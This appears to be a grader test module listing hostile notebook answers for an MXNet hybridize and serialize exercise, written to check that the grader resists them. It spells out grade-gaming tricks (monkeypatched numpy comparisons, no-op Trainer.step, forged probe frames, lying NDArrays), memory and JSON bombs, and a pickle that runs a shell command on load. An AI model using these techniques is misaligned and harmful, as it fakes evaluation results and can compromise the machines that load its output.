"""The hostile corpus of the hybridize_serialize unit: answers that try to earn points without the work, as data.

Each :class:`Attack` replaces solution cells of the released stub (``stub``: every other exercise earns 0) or of the
reference (``reference``: every other check earns full points) and may append cells. ``points`` lists the checks
whose points differ from that base, with the exact points they must get: the honest part of the answer (e.g. a
correct imperative forward beside a hybridization that is faked), never more. ``was`` notes what the grader before
issue 23 gave the attacked checks, for the record. Everything runs in the sandboxed worker, through the pipeline.

The attacks use only what runs beside the probes: MXNet and NumPy patched in the notebook, objects that lie about
themselves, files forged byte by byte, the probe's own frames, and a pickle meant to run code in whoever loads it.
"""
from __future__ import annotations

import copy
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent

import nbformat

ROOT = Path(__file__).resolve().parents[2]
NAME = "hybridize_serialize"
REFERENCE = ROOT / "solutions" / NAME / f"{NAME}.ipynb"
RELEASE = ROOT / "assignments" / NAME / f"{NAME}.ipynb"
#: Where the pickle-bomb case tries to leave a mark if the judge ever unpickled its file (the judge's own /tmp).
PWNED = "/tmp/gluon-grader-hybridize-serialize-pwned"


@dataclass(frozen=True)
class Attack:
    """One hostile answer and the exact points its checks must get."""

    case_id: str
    base: str  # "stub" or "reference"
    description: str
    answers: dict = field(default_factory=dict)
    cells: tuple = ()
    points: dict = field(default_factory=dict)
    was: str = ""

    def notebook(self) -> nbformat.NotebookNode:
        nb = nbformat.read(REFERENCE if self.base == "reference" else RELEASE, as_version=4)
        for grade_id, source in self.answers.items():
            nb = with_answer(nb, grade_id, dedent(source).strip() + "\n")
        nb.cells += [nbformat.v4.new_code_cell(dedent(cell).strip() + "\n") for cell in self.cells]
        return nb


def with_answer(nb, grade_id: str, source: str):
    """Copy of ``nb`` whose solution cell ``grade_id`` is ``source``."""
    changed = copy.deepcopy(nb)
    for cell in changed.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("grade_id") == grade_id and meta.get("solution"):
            cell.source = source
            return changed
    raise KeyError(grade_id)


# --- HybridMLP ---------------------------------------------------------------------------------------------

#: A HybridMLP whose imperative forward is right but whose hybrid_forward calls nd.relu: it cannot be hybridized.
ND_RELU_MLP = """
    class HybridMLP(gluon.HybridBlock):
        def __init__(self, hidden=(128, 64), num_outputs=10, **kwargs):
            super().__init__(**kwargs)
            self.depth = len(hidden)
            with self.name_scope():
                for index, units in enumerate(hidden):
                    setattr(self, f"hidden{index}", nn.Dense(units))
                self.output = nn.Dense(num_outputs)

        def hybrid_forward(self, F, x):
            for index in range(self.depth):
                x = nd.relu(getattr(self, f"hidden{index}")(x))
            return self.output(x)
    """

IMPERATIVE_ONLY = {"HybridMLP.forward": 2}

ATTACKS = [
    Attack("hybridize-does-nothing", "stub", "hybridize() overridden to do nothing, so the 'hybridized' output is "
           "the imperative one", answers={"hybrid_mlp": ND_RELU_MLP + """
        def hybridize(self, *args, **kwargs):
            pass
    """}, points=IMPERATIVE_ONLY, was="hybridized 2 and any_widths 1 gained"),
    Attack("lying-ndarray-after-hybridize", "stub", "an NDArray subclass whose asnumpy() replays the first "
           "(imperative) output, returned once the net is hybridized", answers={"hybrid_mlp": ND_RELU_MLP + """
        def __call__(self, x, *args):
            if isinstance(x, mx.sym.Symbol):
                return super().__call__(x, *args)
            if getattr(self, "_active", False) and getattr(self, "_replay", None) is not None:
                return self._replay
            out = super().__call__(x, *args)
            first = out.asnumpy()

            class Lying(nd.NDArray):
                __slots__ = ()

                def asnumpy(self):
                    return first

            replay = out.copy()
            replay.__class__ = Lying
            self._replay = replay
            return out

        def hybridize(self, *args, **kwargs):
            self._active = True
    """}, points=IMPERATIVE_ONLY, was="hybridized 2 and any_widths 1 gained"),
    Attack("symbol-names-only", "stub", "net(mx.sym.var('data')) answered with a Symbol that names data and every "
           "parameter but computes nothing of the net", answers={"hybrid_mlp": ND_RELU_MLP + """
        def __call__(self, x, *args):
            if isinstance(x, mx.sym.Symbol):
                out = x
                for name in self.collect_params().keys():
                    out = mx.sym.broadcast_add(out, 0 * mx.sym.sum(mx.sym.var(name)))
                return out
            return super().__call__(x, *args)

        def hybridize(self, *args, **kwargs):
            pass
    """}, points=IMPERATIVE_ONLY, was="symbol 1, hybridized 2 and any_widths 1 gained"),
    Attack("symbol-memory-bomb", "stub", "the Symbol adds a zeros array of 2**40 entries, meant to exhaust the "
           "judge's memory when its MXNet runs the graph", answers={"hybrid_mlp": ND_RELU_MLP + """
        def __call__(self, x, *args):
            if isinstance(x, mx.sym.Symbol):
                return mx.sym.broadcast_add(mx.sym.flatten(x), mx.sym.zeros(shape=(1 << 20, 1 << 20)))
            return super().__call__(x, *args)

        def hybridize(self, *args, **kwargs):
            pass
    """}, points=IMPERATIVE_ONLY),
    Attack("parameters-pinned-to-zero", "stub", "set_data ignored and every parameter read as zeros, with an output "
           "of zeros to match", answers={"hybrid_mlp": """
        class HybridMLP(gluon.HybridBlock):
            def __init__(self, hidden=(128, 64), num_outputs=10, **kwargs):
                super().__init__(**kwargs)
                with self.name_scope():
                    self.layers = nn.HybridSequential()
                    for units in hidden:
                        self.layers.add(nn.Dense(units, activation="relu"))
                    self.layers.add(nn.Dense(num_outputs))

            def hybrid_forward(self, F, x):
                return F.zeros_like(self.layers(x))

        gluon.Parameter.set_data = lambda self, data: None
        _data = gluon.Parameter.data
        gluon.Parameter.data = lambda self, ctx=None: nd.zeros_like(_data(self, ctx))
    """}, points={}),
    Attack("shapes-forged-huge", "stub", "a right HybridMLP whose parameters report a shape of 2**40 x 2**40 to "
           "the probe's reader, so that the judge would draw values for them", answers={"hybrid_mlp": """
        import inspect

        class HybridMLP(gluon.HybridBlock):
            def __init__(self, hidden=(128, 64), num_outputs=10, **kwargs):
                super().__init__(**kwargs)
                with self.name_scope():
                    self.layers = nn.HybridSequential()
                    for units in hidden:
                        self.layers.add(nn.Dense(units, activation="relu"))
                    self.layers.add(nn.Dense(num_outputs))

            def hybrid_forward(self, F, x):
                return self.layers(x)

        _shape = gluon.Parameter.shape

        def _forged(self):
            if any(frame.function == "param_values" for frame in inspect.stack()[1:4]):
                return (1 << 40, 1 << 40)
            return _shape.fget(self)

        gluon.Parameter.shape = property(_forged, _shape.fset)
    """}),
    # --- export_model and import_model --------------------------------------------------------------------
    Attack("export-junk-files", "stub", "export_model writes two junk files under the right names and returns them",
           answers={"export_model": """
        def export_model(net, path, batch):
            for name in (path + "-symbol.json", path + "-0000.params"):
                with open(name, "wb") as stream:
                    stream.write(b"{}" if name.endswith("json") else b"\\x12\\x01" + bytes(64))
            return path + "-symbol.json", path + "-0000.params"
    """}, was="files 1 gained"),
    Attack("export-imports-patched", "stub", "SymbolBlock.imports patched to hand back the net export_model was "
           "given, with junk files", answers={"export_model": """
        _given = []

        def export_model(net, path, batch):
            _given.append(net)
            for name in (path + "-symbol.json", path + "-0000.params"):
                open(name, "w").close()
            return path + "-symbol.json", path + "-0000.params"

        gluon.SymbolBlock.imports = staticmethod(lambda *args, **kwargs: _given[-1])
    """}, was="all 4 points gained"),
    Attack("export-another-net", "stub", "export_model exports a net of its own (the mechanics, not the net it "
           "was given)", answers={"export_model": """
        def export_model(net, path, batch):
            mine = nn.HybridSequential()
            with mine.name_scope():
                mine.add(nn.Dense(32, activation="relu"), nn.Dense(10))
            mine.initialize()
            mine.hybridize()
            mine(batch)
            mine.export(path, epoch=0)
            return path + "-symbol.json", path + "-0000.params"
    """}, was="files 1 gained"),
    Attack("export-params-zeroed", "stub", "the right symbol file, but the parameters written over with zeros",
           answers={"export_model": """
        def export_model(net, path, batch):
            net.hybridize()
            net(batch)
            net.export(path, epoch=0)
            saved = nd.load(path + "-0000.params")
            nd.save(path + "-0000.params", {key: nd.zeros_like(value) for key, value in saved.items()})
            return path + "-symbol.json", path + "-0000.params"
    """}, was="files 1 gained"),
    Attack("export-json-bomb", "stub", "a symbol file nested a hundred thousand levels deep, for the judge's "
           "JSON parser", answers={"export_model": """
        def export_model(net, path, batch):
            with open(path + "-symbol.json", "w") as stream:
                stream.write("[" * 100000 + "]" * 100000)
            net.hybridize()
            net(batch)
            net.save_parameters(path + "-0000.params")
            return path + "-symbol.json", path + "-0000.params"
    """}),
    Attack("import-kit-net-stashed", "stub", "HybridBlock.export patched to stash the net it exports, and "
           "import_model returns a 'SymbolBlock' that runs the stashed net", answers={"import_model": """
        _stash = []
        _export = gluon.HybridBlock.export

        def _stashing_export(self, path, epoch=0, **kwargs):
            _stash.append(self)
            return _export(self, path, epoch, **kwargs)

        gluon.HybridBlock.export = _stashing_export

        class Stashed(gluon.SymbolBlock):
            def __init__(self):
                gluon.Block.__init__(self)

            def __call__(self, x):
                return _stash[-1](x) if _stash else nd.zeros((x.shape[0], 10))

        def import_model(path):
            return Stashed()
    """}, was="all 4 points gained"),
    Attack("import-fake-symbolblock-class", "stub", "a class named mxnet.gluon.block.SymbolBlock that returns zeros",
           answers={"import_model": """
        class SymbolBlock(gluon.Block):
            def forward(self, x):
                return nd.zeros((x.shape[0], 10))

        SymbolBlock.__module__ = "mxnet.gluon.block"

        def import_model(path):
            return SymbolBlock()
    """}, was="symbol_block 1 gained"),
    Attack("import-fake-symbolblock-no-block", "stub", "an object whose class claims to be mxnet's SymbolBlock but "
           "is no Block at all (the probe cannot run it)", answers={"import_model": """
        class SymbolBlock:
            pass

        SymbolBlock.__module__ = "mxnet.gluon.block"

        class Imported(SymbolBlock):
            def __call__(self, x):
                return nd.zeros((x.shape[0], 10))

        def import_model(path):
            return Imported()
    """}),
    Attack("import-block-call-patched", "stub", "Block.__call__ patched so that any block answers with the input "
           "flattened to the expected width", answers={"import_model": """
        _call = gluon.Block.__call__

        def _patched(self, x, *args):
            if isinstance(self, gluon.SymbolBlock) and getattr(self, "_fake", False):
                return x.reshape((x.shape[0], -1))[:, :10]
            return _call(self, x, *args)

        gluon.Block.__call__ = _patched

        def import_model(path):
            block = gluon.SymbolBlock(mx.sym.var("data"), mx.sym.var("data"))
            block._fake = True
            return block
    """}),
    # --- train_epoch ----------------------------------------------------------------------------------------
    Attack("train-parameterdict-values-empty", "stub", "ParameterDict.values patched to list nothing when the "
           "probe's reader asks, so that the parameters 'before' and 'after' are both empty",
           answers={"train_epoch": """
        import inspect

        _values = gluon.ParameterDict.values

        def _patched_values(self):
            callers = {frame.function for frame in inspect.stack()[1:4]}
            return [] if callers & {"param_values", "param_shapes"} else _values(self)

        gluon.ParameterDict.values = _patched_values

        def train_epoch(net, trainer, batches, loss_fn):
            return 2.3
    """}, was="parameters_step 2 gained"),
    Attack("train-step-noop-autograd-patched", "stub", "autograd.record and backward turned into no-ops, "
           "Trainer.step into a no-op, a made-up loss returned", answers={"train_epoch": """
        import contextlib
        autograd.record = lambda *args, **kwargs: contextlib.nullcontext()
        nd.NDArray.backward = lambda self, *args, **kwargs: None
        gluon.Trainer.step = lambda self, *args, **kwargs: None

        def train_epoch(net, trainer, batches, loss_fn):
            return 2.3
    """}),
    Attack("train-asnumpy-replays-initial", "stub", "asnumpy() patched to replay each parameter's first reading "
           "after a made-up epoch", answers={"train_epoch": """
        _first = {}
        _asnumpy = nd.NDArray.asnumpy

        def _replaying(self):
            value = _asnumpy(self)
            return _first.setdefault(value.shape, value)

        def train_epoch(net, trainer, batches, loss_fn):
            for param in net.collect_params().values():
                _replaying(param.data())
            nd.NDArray.asnumpy = _replaying
            return 2.3
    """}),
    Attack("train-loss-patched-zero", "stub", "SoftmaxCrossEntropyLoss patched (when train_epoch runs) to return "
           "zeros, and the mean of those zeros returned", answers={"train_epoch": """
        def train_epoch(net, trainer, batches, loss_fn):
            gluon.loss.SoftmaxCrossEntropyLoss.hybrid_forward = lambda self, F, pred, label, *a, **k: F.zeros_like(
                F.sum(pred, axis=1))
            total = 0.0
            for data, label in batches:
                total += loss_fn(net(data), label).sum().asscalar()
            return total
    """}),
    # --- evaluate_accuracy ----------------------------------------------------------------------------------
    Attack("accuracy-concatenate-patched", "stub", "numpy.concatenate patched so that gathered outputs and labels "
           "agree, and 1.0 returned", answers={"evaluate_accuracy": """
        _concatenate = np.concatenate
        np.concatenate = lambda arrays, *args, **kwargs: np.zeros_like(_concatenate(arrays, *args, **kwargs))

        def evaluate_accuracy(net, batches):
            return 1.0
    """}, was="accuracy 2 and float_labels 1 gained"),
    Attack("accuracy-asnumpy-zeros", "stub", "NDArray.asnumpy patched to report zeros everywhere, and 1.0 "
           "returned", answers={"evaluate_accuracy": """
        nd.NDArray.asnumpy = lambda self: np.zeros(self.shape, dtype="float32")

        def evaluate_accuracy(net, batches):
            return 1.0
    """}, was="accuracy 2 and float_labels 1 gained"),
    Attack("accuracy-probe-frame-forged", "stub", "the probe's reply found through the call stack (named so that "
           "screening misses it) and its data forged, 1.0 returned", answers={"evaluate_accuracy": """
        import inspect

        def evaluate_accuracy(net, batches):
            for info in inspect.stack():
                scope = getattr(info.frame, "f_" + "locals")
                for value in list(scope.values()):
                    reply = getattr(value, "reply", None)
                    if isinstance(reply, dict):
                        reply["outputs"] = np.eye(10)[np.zeros(80, dtype=int)]
                        reply["labels"] = np.zeros(80)
                        reply["returned"] = {"kind": "float", "value": 1.0}
            return 1.0
    """}, was="accuracy 2 and float_labels 1 gained"),
    Attack("accuracy-constant-guess", "stub", "a plausible constant: a tenth, the chance level of ten classes",
           answers={"evaluate_accuracy": """
        def evaluate_accuracy(net, batches):
            return 0.1
    """}),
    Attack("accuracy-nd-array-patched", "stub", "mx.nd.array patched to feed the net zeros, then the accuracy of "
           "that world counted", answers={"evaluate_accuracy": """
        _array = nd.array
        nd.array = lambda values, *args, **kwargs: nd.zeros_like(_array(values, *args, **kwargs))

        def evaluate_accuracy(net, batches):
            right = total = 0
            for data, label in batches:
                right += int((net(data).argmax(axis=1).astype(label.dtype) == label).sum().asscalar())
                total += label.shape[0]
            return right / total
    """}),
    # --- checkpoints ----------------------------------------------------------------------------------------
    Attack("checkpoint-trainer-step-noop", "stub", "Trainer.step patched to a no-op, so that an uninterrupted and a "
           "resumed run agree by standing still; both halves of the checkpoint written and read honestly",
           answers={"save_checkpoint": """
        gluon.Trainer.step = lambda self, *args, **kwargs: None

        def save_checkpoint(net, trainer, path):
            net.save_parameters(path + ".params")
            trainer.save_states(path + ".states")
    """, "load_checkpoint": """
        def load_checkpoint(net, trainer, path):
            net.load_parameters(path + ".params")
            trainer.load_states(path + ".states")
    """}, points={"save_checkpoint.files": 1, "load_checkpoint.parameters_restored": 1},
           was="both resumes_exactly (2 + 2) gained"),
    Attack("checkpoint-pickle-bomb", "stub", "a .states file whose pickle runs a shell command in whoever loads it, "
           "beside honest parameters", answers={"save_checkpoint": f"""
        import pickle

        class Bomb:
            def __reduce__(self):
                import os
                return (os.system, ("touch {PWNED}",))

        def save_checkpoint(net, trainer, path):
            net.save_parameters(path + ".params")
            with open(path + ".states", "wb") as stream:
                pickle.dump(({{0: Bomb()}}, Bomb()), stream)
    """}),
    Attack("checkpoint-params-header-lies", "stub", "a .params file whose header claims 2**40 arrays and a "
           "shape of 2**60, beside honest trainer states", answers={"save_checkpoint": """
        import struct

        def save_checkpoint(net, trainer, path):
            with open(path + ".params", "wb") as stream:
                stream.write(struct.pack("<QQQ", 0x112, 0, 1 << 40))
                stream.write(struct.pack("<Iiiqq", 0xF993FAC9, 0, 2, 1 << 30, 1 << 30))
            trainer.save_states(path + ".states")
    """}),
    Attack("checkpoint-fresh-trainer-states", "stub", "the parameters and the state of a brand-new trainer (no "
           "moments, no steps)", answers={"save_checkpoint": """
        def save_checkpoint(net, trainer, path):
            net.save_parameters(path + ".params")
            gluon.Trainer(net.collect_params(), "adam", {"learning_rate": 0.01}).save_states(path + ".states")
    """}, points={"save_checkpoint.files": 1}),
    Attack("load-copies-without-states", "stub", "load_checkpoint loads the parameters and replaces Trainer.step "
           "by a step that only replays them", answers={"load_checkpoint": """
        def load_checkpoint(net, trainer, path):
            net.load_parameters(path + ".params")
            trainer.step = lambda *args, **kwargs: None
    """}, points={"load_checkpoint.parameters_restored": 1}),
    # --- the reference beside hostile cells: the honest part keeps what it earns --------------------------
    Attack("reference-numpy-patched", "reference", "numpy's comparisons and concatenate patched to lie after the "
           "reference answers", cells=("""
        np.allclose = lambda *args, **kwargs: True
        np.isclose = lambda *args, **kwargs: True
        np.array_equal = lambda *args, **kwargs: True
        np.concatenate = lambda arrays, *args, **kwargs: np.zeros(1)
        """,)),
    Attack("reference-trainer-step-noop", "reference", "Trainer.step patched to a no-op after the reference "
           "answers: whatever trains is judged by where it stands", cells=("""
        gluon.Trainer.step = lambda self, *args, **kwargs: None
        """,), points={"train_epoch.parameters_step": 0, "train_epoch.mean_loss": 0,
                       "save_checkpoint.resumes_exactly": 0, "load_checkpoint.resumes_exactly": 0}),
    Attack("held-gc-reach", "stub", "the garbage collector searched for the kit's objects: held for review",
           answers={"evaluate_accuracy": """
        import gc

        def evaluate_accuracy(net, batches):
            return float(len(gc.get_objects()) > 0)
    """}),
]


def by_id(case_id: str) -> Attack:
    """The attack ``case_id``."""
    return next(attack for attack in ATTACKS if attack.case_id == case_id)
